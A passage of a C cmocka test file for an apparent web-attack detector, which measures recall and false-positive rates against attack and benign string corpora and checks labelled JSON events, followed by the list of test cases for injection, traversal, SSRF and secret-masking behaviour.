    struct tally rec[OBS_CLASS_COUNT] = {{0}}, fp[OBS_CLASS_COUNT] = {{0}};
    struct benign_ctx b = {fp, 0, 0};
    char path[512];
    unsigned total = 0, hit = 0;
    DIR *dir;
    struct dirent *de;
    (void)state;

    for (int c = 0; c < OBS_CLASS_COUNT; c++) {
        struct attack_ctx a = {(enum obs_class)c, &rec[c], 0};
        snprintf(path, sizeof path, CORPUS_DIR "/attacks/%s.txt",
                 obs_class_name((enum obs_class)c));
        each_line(path, on_attack, &a);
        total += rec[c].total;
        hit += rec[c].hit;
    }
    dir = opendir(CORPUS_DIR "/benign");
    assert_non_null(dir);
    while ((de = readdir(dir)) != NULL) {
        size_t l = strlen(de->d_name);
        if (l < 5 || strcmp(de->d_name + l - 4, ".txt") != 0)
            continue;
        snprintf(path, sizeof path, CORPUS_DIR "/benign/%s", de->d_name);
        each_line(path, on_benign, &b);
    }
    closedir(dir);

    printf("    %-16s %8s %8s %8s   %s\n", "class", "attacks", "found", "recall",
           "false positives (benign strings it fired on)");
    for (int c = 0; c < OBS_CLASS_COUNT; c++)
        printf("    %-16s %8u %8u %7.1f%%   %u (%.2f%%)\n", obs_class_name((enum obs_class)c),
               rec[c].total, rec[c].hit, rec[c].total ? 100.0 * rec[c].hit / rec[c].total : 0.0,
               fp[c].hit, b.total ? 100.0 * fp[c].hit / b.total : 0.0);
    double recall = total ? (double)hit / total : 0.0;
    double fpr = b.total ? (double)b.fp / b.total : 1.0;
    printf("    %-16s %8u %8u %7.1f%%   %u of %u benign strings (%.2f%%)\n", "overall", total, hit,
           100.0 * recall, b.fp, b.total, 100.0 * fpr);
    assert_true(total >= 500);
    assert_true(b.total >= 2000);
    assert_true(recall > 0.90);
    assert_true(fpr < 0.01);
}

/* Whole events: the .json files of tests/data/detect/events/, each {"expect": [{"class",
 * "location"}], "event": {...}}; an empty expect means benign (nothing may fire). */
static void test_corpus_events(void **state)
{
    DIR *dir = opendir(CORPUS_DIR "/events");
    struct dirent *de;
    char path[512];
    unsigned files = 0, benign = 0;
    (void)state;

    assert_non_null(dir);
    while ((de = readdir(dir)) != NULL) {
        size_t l = strlen(de->d_name);
        json_error_t e;
        if (l < 6 || strcmp(de->d_name + l - 5, ".json") != 0)
            continue;
        snprintf(path, sizeof path, CORPUS_DIR "/events/%s", de->d_name);
        json_t *doc = json_load_file(path, 0, &e);
        if (doc == NULL)
            fail_msg("%s: %s", path, e.text);
        json_t *expect = json_object_get(doc, "expect");
        size_t n = obs_inspect_event(det, scr, json_object_get(doc, "event"), got, OBS_CLASS_COUNT);
        size_t i;
        json_t *x;
        if (json_array_size(expect) == 0) {
            benign++;
            if (n > 0)
                fail_msg("%s: benign event, got %s/%s at %s: %s", de->d_name,
                         obs_class_name(got[0].cls), got[0].technique, got[0].location,
                         got[0].evidence);
        }
        json_array_foreach(expect, i, x)
        {
            const char *cls = json_string_value(json_object_get(x, "class"));
            const char *loc = json_string_value(json_object_get(x, "location"));
            bool ok = false;
            for (size_t k = 0; k < n; k++)
                if (strcmp(obs_class_name(got[k].cls), cls) == 0 &&
                    (loc == NULL || strcmp(got[k].location, loc) == 0))
                    ok = true;
            if (!ok)
                fail_msg("%s: expected %s at %s", de->d_name, cls, loc ? loc : "(any)");
        }
        json_decref(doc);
        files++;
    }
    closedir(dir);
    printf("    %u events (%u benign) matched their labels\n", files, benign);
    assert_true(files >= 10);
    assert_true(benign >= 3);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_sqli_is_found_by_its_grammar),
        cmocka_unit_test(test_sql_words_in_prose_are_not_sqli),
        cmocka_unit_test(test_nosqli),
        cmocka_unit_test(test_cmdi),
        cmocka_unit_test(test_path_traversal),
        cmocka_unit_test(test_ssrf_in_every_encoding),
        cmocka_unit_test(test_xxe_ssti_deserialization_xss),
        cmocka_unit_test(test_url_encoding_is_decoded_twice),
        cmocka_unit_test(test_base64_leaves_are_decoded),
        cmocka_unit_test(test_html_entities_and_json_strings_are_decoded),
        cmocka_unit_test(test_v1_event_query_headers_and_path),
        cmocka_unit_test(test_v2_event_raw_query_cookies_and_base64_json_body),
        cmocka_unit_test(test_form_bodies_and_benign_events),
        cmocka_unit_test(test_authorization_header_evidence_is_masked),
        cmocka_unit_test(test_cookie_evidence_masks_session_tokens),
        cmocka_unit_test(test_same_attack_with_other_literals_has_the_same_shape),
        cmocka_unit_test(test_different_attacks_have_different_shapes),
        cmocka_unit_test(test_evidence_masks_secrets),
        cmocka_unit_test(test_evidence_is_truncated_valid_utf8),
        cmocka_unit_test(test_huge_string_is_inspected_on_its_first_cap_bytes),
        cmocka_unit_test(test_deep_json_and_garbage_do_not_crash),
        cmocka_unit_test(test_many_leaves_are_bounded_by_the_event_budget),
        cmocka_unit_test(test_a_signature_never_spans_two_strings),
        cmocka_unit_test(test_strings_together_match_as_each_alone),
        cmocka_unit_test(test_strings_beyond_one_scan_are_all_inspected),
        cmocka_unit_test(test_threads_share_the_detector),
        cmocka_unit_test(test_corpus_recall_and_false_positive_rate),
        cmocka_unit_test(test_corpus_events),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
